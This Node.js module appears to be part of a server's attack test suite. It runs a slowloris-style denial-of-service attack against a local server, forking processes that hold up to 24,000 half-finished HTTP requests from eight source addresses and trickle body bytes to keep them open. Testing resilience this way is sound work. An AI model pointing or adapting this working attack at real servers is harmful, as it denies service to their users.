// 24,000 connections from eight networks that never become requests: every
// second one sends the head of a form and a byte of its body, and another byte
// every 20 seconds; the others stop in the middle of the head. Who is closed
// opens another one, as fast as that goes. In processes of their own: one may
// not have so many files open.
import net from 'node:net';
import { fork } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { address, alone } from '../attack.mjs';

const self = fileURLToPath(import.meta.url);
const NETWORKS = 8;
const AT_ONCE = 50;	// that are being connected, of a process

const heads = [
	'POST /acme/s/chat-exit HTTP/1.1\r\nHost: localhost\r\nContent-Type: ' +
		'application/x-www-form-urlencoded\r\nContent-Length: 8000\r\n\r\na',
	'GET /acme/s/chat-exit HTTP/1.1\r\nHost: localhost\r\nX-A',
];

// One process: n connections, held for as long as they last.
function hold(port, n, first) {
	const seen = { opened: 0, refused: 0, answered: 0, closed: 0, open: 0 };
	const sockets = new Set();
	let connecting = 0, number = first;
	const more = () => {
		while (connecting < AT_ONCE && sockets.size < n) {
			const i = number++;
			const s = net.connect({ port, host: '127.0.0.1',
				localAddress: address(600 + i % NETWORKS) });
			let open = false;
			sockets.add(s);
			connecting++;
			s.on('connect', () => {
				open = true;
				connecting--;
				seen.opened++;
				s.write(heads[(i >> 3) % 2]);
				more();
			});
			s.once('data', () => seen.answered++);
			s.on('data', () => {});
			s.on('error', () => { if (!open) seen.refused++; });
			s.on('close', () => {
				if (!open) connecting--;
				else seen.closed++;
				sockets.delete(s);
				setTimeout(more, 100);
			});
		}
	};
	more();
	setInterval(() => { for (const s of sockets) s.write('a'); }, 20000);
	process.on('message', () => {
		seen.open = sockets.size;
		process.send(seen, () => process.exit(0));
	});
	process.on('disconnect', () => process.exit(0));
}

export async function start(url, { connections = 24000, processes = 4 } = {}) {
	const { port } = new URL(url);
	const each = Math.ceil(connections / processes);
	const all = Array.from({ length: processes }, (_, i) =>
		fork(self, ['hold', port, each, i * each]));
	return async () => {
		const seen = await Promise.all(all.map((child) => new Promise((done) => {
			child.once('message', done);
			child.send('stop');
		})));
		return seen.reduce((sum, one) => Object.fromEntries(
			Object.entries(one).map(([k, v]) => [k, v + (sum[k] ?? 0)])), {});
	};
}

if (process.argv[1] === self && process.argv[2] === 'hold')
	hold(...process.argv.slice(3).map(Number));
else
	await alone(import.meta, start);
